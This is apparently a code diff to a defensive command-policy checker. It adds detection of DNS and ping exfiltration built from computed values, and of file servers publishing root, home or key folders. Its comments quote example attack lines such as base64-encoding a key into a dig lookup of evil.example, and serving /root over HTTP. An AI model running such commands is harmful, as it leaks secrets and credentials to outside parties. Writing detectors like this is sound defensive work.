@@ -24,6 +24,7 @@ from aiperm_tui.policy.fspaths import (
     is_metadata_credentials,
     is_secret,
     is_secret_dir,
+    resolve,
     secret_named,
 )
 from aiperm_tui.policy.hits import Hit, Target
@@ -171,10 +172,11 @@ def judge_effects(cmd: Cmd, an: Analysis, tools: Packs | None = None) -> Judged:
     matched = frozenset(h.rule for h in hits)
     hits.extend(secret_reads(cmd, tools or packs, an.cwds))
     hits.extend(secret_env_reads(cmd) or secret_filter_reads(cmd))
-    hits.extend(_network_substitution(cmd))
+    hits.extend(_network_substitution(cmd, an))
     hits.extend(stdin_uploads(cmd))
     hits.extend(_scripted_put(cmd, an))
     hits.extend(_names_on_stdin(cmd, an))
+    hits.extend(served_folder(cmd, an))
     return Judged(hits, reads, builtin_reads, matched)
 
 
@@ -215,11 +217,22 @@ def match(
             return None
         span = _text_span(cmd, m.group(0)) or span
     if rule.paths:
-        word = next((a for a in cmd.args if path_class(_bare(a.text)) == rule.paths), None)
+        word = next((a for a in cmd.args if _of_class(a.text, rule.paths)), None)
         if word is None:
             return None
         span = word.span
     return span
+
+
+def _of_class(text: str, wanted: str) -> bool:
+    """`text` is of the rule's `paths` class; `vital` is no file class but a service the
+    host cannot lose, by systemctl's `vital` pattern (one list for every service manager:
+    `sv down sshd`, `s6-svc -d /run/service/sshd`, `rc-service sshd stop`)."""
+    if wanted == "vital":
+        pattern = builtin_packs().vital("systemctl")
+        name = text.rstrip("/").rsplit("/", 1)[-1]
+        return bool(pattern and name and compiled(pattern).match(name))
+    return path_class(_bare(text)) == wanted
 
 
 def path_class(text: str) -> str:
@@ -586,11 +599,51 @@ def redirect_secret(target: Word, cwds: tuple[str | None, ...] = (None,)) -> Hit
     return None
 
 
-def _network_substitution(cmd: Cmd) -> list[Hit]:
-    if cmd.name not in _NETWORK_TOOLS:
+# A name or ping pattern built from a value a command computes on the line: a variable
+# assigned from a substitution, looped over one or `read` from a pipe, or xargs' `{}`,
+# as a label in front of a domain (`d=$(base64 key); dig $d.evil.example`, `... | xargs
+# -I{} dig {}.evil.example`) or as the bytes `ping -p` sends. The name's owner reads the
+# label in its server's log, as with a substitution written in place. A variable from
+# the operator's environment (`nslookup $SVC.svc.cluster.local`) is not computed here.
+_LABEL_VALUE = lazy(r"(?:\$\{?([A-Za-z_]\w*)\}?|\{\})[\w-]*\.[\w-]*[A-Za-z]")
+_DNS_ICMP = frozenset(
+    {"dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6", "hping3", "nping"}
+)
+
+
+def _carries_value(cmd: Cmd, a: Word, an: Analysis) -> bool:
+    """Does argument `a` of a network tool carry a value a command computed out?"""
+    if "$(" in a.raw or "`" in a.raw:
+        return True
+    if cmd.name not in _DNS_ICMP:
+        return False
+    original = next((w.raw for w in cmd.simple.words if w.start == a.start), a.raw)
+    found = _LABEL_VALUE.search(original)
+    if found is None and cmd.name.startswith("ping") and cmd.option_value("p") == a.text:
+        found = re.search(r"\$\{?([A-Za-z_]\w*)|\{\}", original)
+    if found is None:
+        return False
+    if found.group(1) is None:  # xargs' `{}`: an item of what is piped in
+        return cmd.simple.upstream is not None and _upstream_name(cmd) not in _LITERAL_PRODUCERS
+    return _computed_variable(found.group(1), an.src)
+
+
+def _computed_variable(name: str, src: str) -> bool:
+    """Does the line give `name` a value computed by a command: `name=$(...)`, `for
+    name in $(...)`, or `read name` (its input is another command's output)?"""
+    n = re.escape(name)
+    return bool(
+        re.search(rf"(?:^|[\s;&|(]){n}=[\"']?(?:\$\(|`)", src)
+        or re.search(rf"\bfor\s+{n}\s+in\s+[^;\n]*(?:\$\(|`)", src)
+        or re.search(rf"\bread\s+(?:-\S+\s+)*(?:\w+\s+)*{n}\b", src)
+    )
+
+
+def _network_substitution(cmd: Cmd, an: Analysis) -> list[Hit]:
+    if cmd.name not in _NETWORK_TOOLS and cmd.name not in _DNS_ICMP:
         return []
     for a in cmd.args:
-        if "$(" in a.raw or "`" in a.raw:
+        if _carries_value(cmd, a, an):
             return [
                 Hit(
                     "net.exfil_substitution",
@@ -802,6 +855,51 @@ def _scripted_put(cmd: Cmd, an: Analysis) -> list[Hit]:
             "unknown",
         )
     ]
+
+
+# Static file servers, and the option naming the folder each serves (without it, the
+# working folder): `python -m http.server`, `php -S`, `busybox httpd`, `caddy
+# file-server`, ruby's `-run -e httpd`. A folder written absolute on the line is the
+# pack's `http_server.exposes_files`; what no pack can see is the folder the line `cd`'d
+# into (`cd /root && python3 -m http.server`), or a relative folder named from there.
+_FILE_SERVERS: dict[str, tuple[str, tuple[str, ...]]] = {
+    "python": (
+        r"(?:^|\s)-m\s*(?:http\.server|SimpleHTTPServer|uploadserver)\b",
+        ("directory", "d"),
+    ),
+    "php": (r"(?:^|\s)-S\s*\S", ("t",)),
+    "busybox": (r"(?:^|\s)httpd\b", ("h",)),
+    "caddy": (r"(?:^|\s)file-server\b", ("root", "r")),
+    "ruby": (r"(?:^|\s)-run\s+-e\s*httpd\b", ()),
+}
+
+
+def served_folder(cmd: Cmd, an: Analysis) -> list[Hit]:
+    """`cd / && python3 -m http.server`: a file server publishing the root, a system or
+    home folder, or a folder of keys, named relative to (or being) the folder the line
+    entered. Anyone who reaches the port reads the files."""
+    form = _FILE_SERVERS.get(cmd.name)
+    if form is None or not re.search(form[0], cmd.text()):
+        return []
+    named = cmd.option_value(*form[1]) if form[1] else None
+    if named is not None and named.startswith(("/", "~", "$")):
+        return []  # written out on the line: the pack's rule reads it
+    for cwd in an.cwds:
+        folder = resolve(named or ".", cwd) if cwd is not None else None
+        if folder is not None and (
+            classify(folder) in ("root", "critical", "home", "dotfile") or is_secret_dir(folder)
+        ):
+            return [
+                Hit(
+                    "net.serves_folder",
+                    "high",
+                    f"{cmd.name} serves {folder} over HTTP (the folder the line entered): "
+                    "anyone who reaches the port can read its files",
+                    cmd.span,
+                    "unknown",
+                )
+            ]
+    return []
 
 
 def _dumps_environment(cmd: Cmd) -> bool:
